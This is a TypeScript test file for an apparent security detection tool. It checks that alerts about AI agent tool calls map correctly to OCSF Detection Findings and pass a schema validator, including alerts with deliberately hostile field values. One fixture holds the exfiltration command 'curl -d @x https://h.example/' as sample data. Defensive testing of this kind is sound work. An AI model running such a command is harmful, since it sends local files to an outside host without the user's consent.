// Alerts as OCSF Detection Findings: what becomes of each field, and that the schema itself accepts every alert of every
// rule we bring, also when fields are hostile. The schema is asked in Python.
import { execFileSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { type Event, FIELDS, serialise } from "../../src/core/generated/event.ts";
import { alertEvent } from "../../src/detect/alert.ts";
import { correlationAlert, suppressedEvent } from "../../src/detect/correlation-alert.ts";
import { ruleFiles } from "../../src/detect/load.ts";
import { ocsfFinding } from "../../src/detect/ocsf.ts";
import { parseRules } from "../../src/detect/parse.ts";
import { proofPath, readEvent, readProof } from "../../src/detect/prove.ts";
import { compileRules } from "../../src/detect/rules.ts";
import { OCSF, python } from "../python.ts";

const home = join(import.meta.dirname, "../../detections");
const NOW = Date.UTC(2026, 10, 1, 12);
const context = {
  origin: { namespace: "default", host: "h", version: "1" },
  ruleset_hash: "set",
  now_ms: NOW,
};
const firing = {
  node: 0,
  key: "k",
  group: ["s1", "h.example"],
  grid_ms: NOW - 600_000,
  start_ms: NOW - 500_000,
  end_ms: NOW,
  time_ms: NOW - 5,
  number: 5.5,
  count: 5,
  evidence: [
    { event: "e1", index: 7 },
    { event: "e2", index: -1 },
  ],
  context: { "gen_ai.conversation.id": "s1", "user.name": "ann" },
  backfill: true,
};

const stored = (e: Event, sequence = 3): object => {
  const document = JSON.parse(serialise(e)) as { event: object };
  return { ...document, event: { ...document.event, sequence, hash: "sha256:00" } };
};

const RULE = `
title: Content leaves
id: 6ad1a0f3-1c64-4b5c-9a53-1c9a4c2c5a11
description: Sends what it read.
level: medium
references: [https://example.com/a]
tags: [attack.exfiltration, attack.t1059.004, atlas.t0086, iso42001.a.7.5]
logsource: {product: tapline, category: tool-call}
detection: {s: {gen_ai.tool.name: send}, condition: s}
`;
const { rules, hash } = compileRules(parseRules(RULE, "r.yml").rules);

function alertOf(more: Partial<Event>): Event {
  const source = { product: "tapline", category: "tool-call" } as never;
  const e = readEvent({ "gen_ai.tool.name": "send", ...more }, source, "1", [])!;
  return alertEvent(rules[0]!, e, hash);
}

test("an alert becomes a finding: what, when, whom, where to, on what it rests; the rest keeps its name", () => {
  const alert = alertOf({
    "@timestamp": "2026-11-01T10:00:00.000Z",
    "event.created": "2026-11-01T10:00:01.500Z",
    "user.name": "ann",
    "user.email": "ann@h.example",
    "service.name": "claude-code",
    "gen_ai.conversation.id": "s-1",
    "gen_ai.agent.id": "a-1",
    "gen_ai.tool.call.id": "c-1",
    "tapline.server.name": "mail",
    "tapline.source": "claude",
    "tapline.backfill": true,
    "destination.domain": "h.example",
    "destination.ip": "203.0.113.9",
    "destination.port": 443,
    "file.path": "/home/ann/notes/",
    "url.full": "https://h.example/x",
    "url.domain": "h.example",
    "tapline.flow.from_event": "e-0",
    "tapline.flow.from_tool": "read_file",
    "tapline.flow.from_server": "files",
  });
  const finding = ocsfFinding(stored(alert)) as Record<string, never>;
  const [at, seen] = [Date.UTC(2026, 10, 1, 10), Date.UTC(2026, 10, 1, 10, 0, 1, 500)];
  expect(finding).toMatchObject({
    class_uid: 2004,
    category_uid: 2,
    activity_id: 1,
    type_uid: 200_401,
    time: seen,
    start_time: at,
    end_time: at,
    severity_id: 3,
    severity: "Medium",
    status_id: 1,
    is_alert: true,
    message: alert["event.reason"],
    risk_score: 47,
    metadata: {
      version: "1.8.0",
      uid: alert["event.id"],
      product: { name: "Tapline", version: "0" },
      sequence: 3,
      log_name: "logs-tapline.alert-default",
    },
    finding_info: {
      uid: alert["event.id"],
      title: "Content leaves",
      desc: "Sends what it read.",
      src_url: "https://example.com/a",
      analytic: { uid: "6ad1a0f3-1c64-4b5c-9a53-1c9a4c2c5a11", type_id: 1, version: rules[0]!.rule.hash },
      attacks: [
        { tactic: { name: "Exfiltration" } },
        { technique: { uid: "T1059" }, sub_technique: { uid: "T1059.004" } },
        { technique: { uid: "AML.T0086" } },
      ],
      related_events: [{ uid: "proof-1" }, { uid: "e-0" }],
      related_events_count: 2,
      data_sources: ["claude"],
    },
    evidences: [
      {
        uid: "proof-1",
        actor: {
          app_name: "claude-code",
          session: { uid: "s-1" },
          user: { name: "ann", email_addr: "ann@h.example" },
        },
        api: { operation: "send", service: { name: "mail" }, request: { uid: "c-1" } },
        data: { matched: { "gen_ai.tool.name": "send" } },
        dst_endpoint: { hostname: "h.example", ip: "203.0.113.9", port: 443 },
        file: { name: "notes", path: "/home/ann/notes/", type_id: 0 },
        url: { url_string: "https://h.example/x", hostname: "h.example" },
      },
      { uid: "e-0", api: { operation: "read_file", service: { name: "files" } } },
    ],
    resources: [{ uid: "a-1", type: "AI agent", role_id: 2 }],
    unmapped: { "tapline.backfill": true, "event.hash": "sha256:00", "rule.ruleset": hash },
  });
  const tags = (finding["finding_info"] as unknown as { tags: { name: string; values: string[] }[] }).tags;
  expect(tags.find(({ name }) => name === "iso42001")!.values).toContain("A.7.5");
});

test("no field of an alert is lost", () => {
  const alert = alertOf({ "user.id": "u", "process.command_line": "curl -d @x https://h.example/" });
  const text = JSON.stringify(ocsfFinding(stored(alert)));
  const said =
    "data_stream ecs. observer.product event.kind event.category event.type event.module event.severity";
  for (const [name, value] of Object.entries(alert)) {
    if (value === undefined || said.split(" ").some((start) => name.startsWith(start))) continue;
    // Times are numbers there, and the level is a name.
    if (name === "@timestamp" || name === "tapline.alert.level" || name === "event.action") continue;
    for (const one of Array.isArray(value) ? (value as unknown[]) : [value])
      expect(text, name).toContain(JSON.stringify(one));
  }
});

test("a correlation's window and events are the finding's; a summary of repeats updates the finding", () => {
  const { correlations } = parseRules(
    "title: T\nlevel: high\ncorrelation: {type: event_count, rules: [a], group-by: [gen_ai.conversation.id, " +
      "destination.domain], timespan: 10m, condition: {gte: 2}}\n",
    "r.yml",
  );
  const alert = correlationAlert(correlations[0]!, firing, context);
  expect(ocsfFinding(stored(alert))).toMatchObject({
    activity_id: 1,
    start_time: firing.start_ms,
    end_time: NOW,
    severity_id: 4,
    finding_info: {
      related_events: [{ uid: "e1" }, { uid: "e2" }],
      related_events_count: 5,
      first_seen_time: firing.start_ms,
    },
    evidences: [
      { uid: "e1", data: { group: { "gen_ai.conversation.id": "s1", "destination.domain": "h.example" } } },
    ],
    unmapped: { "tapline.alert.number": 5.5, "tapline.alert.indexes": [7] },
  });
  expect(ocsfFinding(stored(suppressedEvent(SUPPRESSED, context)))).toMatchObject({
    activity_id: 2,
    type_uid: 200_402,
    severity_id: 0,
    is_alert: false,
    count: 4,
    finding_info: { uid: "a1" },
  });
});

const SUPPRESSED = {
  rule: "r",
  title: "T",
  alert: "a1",
  start_ms: NOW - 1000,
  end_ms: NOW,
  count: 4,
  backfill: false,
};

/** An alert for every event that the rules' proofs hold. */
async function everyAlert(): Promise<object[]> {
  const out: object[] = [];
  for (const file of await ruleFiles([home])) {
    const [rule] = parseRules(readFileSync(file, "utf8"), file).rules;
    if (rule === undefined || !existsSync(proofPath(file))) continue;
    const { match, placeholders } = readProof(readFileSync(proofPath(file), "utf8"), rule.logsource);
    const [compiled] = compileRules([rule], { placeholders }).rules;
    for (const event of match) out.push(stored(alertEvent(compiled!, event, "set")));
  }
  for (const file of await ruleFiles([home])) {
    for (const rule of parseRules(readFileSync(file, "utf8"), file).correlations)
      out.push(stored(correlationAlert(rule, { ...firing, group: rule.group_by.map(() => "g") }, context)));
  }
  out.push(stored(suppressedEvent(SUPPRESSED, context)));
  return out;
}

const TYPES: Record<string, readonly unknown[]> = {
  keyword: ["", "__proto__", "\u0000\ud800", "a@b", "fe80::1%eth0", "/", "T1.2", "99999999999999999999"],
  "keyword[]": [[], [""], ["__proto__", "AML.T1.1"]],
  long: [-1, 0, 70_000, 2 ** 53, 1e300],
  double: [-0.5, 1e300],
  ip: ["203.0.113.9", "::1", "::ffff:1.2.3.4"],
  date: ["0001-01-01T00:00:00.000Z", "9999-12-31T23:59:59.999Z"],
  object: [{}, { "a.b": [1, { c: null }] }, ["x"]],
  boolean: [false],
  text: ["", "\u202e"],
};

/** Alerts with one field after the other set to what nobody expects. */
function hostileAlerts(): object[] {
  return Object.entries(FIELDS).flatMap(([name, type]) =>
    (TYPES[type] ?? []).map((value) => {
      const alert = alertOf({ "user.name": "ann", "destination.ip": "203.0.113.9" });
      return { ...stored(alert), [name]: value };
    }),
  );
}

const interpreter = python(OCSF);
test.skipIf(interpreter === undefined)("the schema accepts every finding", { timeout: 300_000 }, async () => {
  const every = await everyAlert();
  const hostile = hostileAlerts();
  expect([every.length, hostile.length].map((n) => n > 150)).toEqual([true, true]);
  const findings = [...every, ...hostile].map(ocsfFinding);
  // The validator notices what is wrong: one that accepts everything proves nothing.
  const wrong = [
    { ...findings[0], severity_id: 7 },
    { ...findings[0], severity: "Fatal" },
    { ...findings[0], finding_info: {} },
    { ...findings[0], tapline: 1 },
    { ...findings[0], type_uid: 200_402 },
  ];
  const script = join(import.meta.dirname, "../oracle/ocsf_validate.py");
  const input = JSON.stringify([...wrong, ...findings]);
  const answer = execFileSync(interpreter!, [script], { input, maxBuffer: 1 << 28, encoding: "utf8" });
  const problems = JSON.parse(answer) as string[][];
  expect(problems.slice(0, wrong.length).map((found) => found.length)).toEqual([2, 1, 1, 1, 2]);
  const told = problems.slice(wrong.length).flatMap((found, i) => found.map((p) => [p, findings[i]]));
  expect(told).toEqual([]);
});
